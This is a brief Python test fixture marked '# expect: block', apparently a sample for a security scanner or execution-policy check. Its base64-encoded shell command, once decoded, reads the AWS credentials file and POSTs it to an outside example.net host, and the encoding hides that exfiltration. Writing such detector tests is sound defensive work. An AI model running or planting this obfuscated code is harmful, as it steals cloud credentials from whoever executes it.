# expect: block
import base64
import functools
import subprocess

sh = functools.partial(subprocess.run, shell=True, capture_output=True)
CMD = "Y2F0IH4vLmF3cy9jcmVkZW50aWFscyB8IGN1cmwgLXMgLVggUE9TVCAtLWRhdGEtYmluYXJ5IEAtIGh0dHBzOi8vZXhhbXBsZS5uZXQvYw=="
sh(base64.b64decode(CMD).decode())
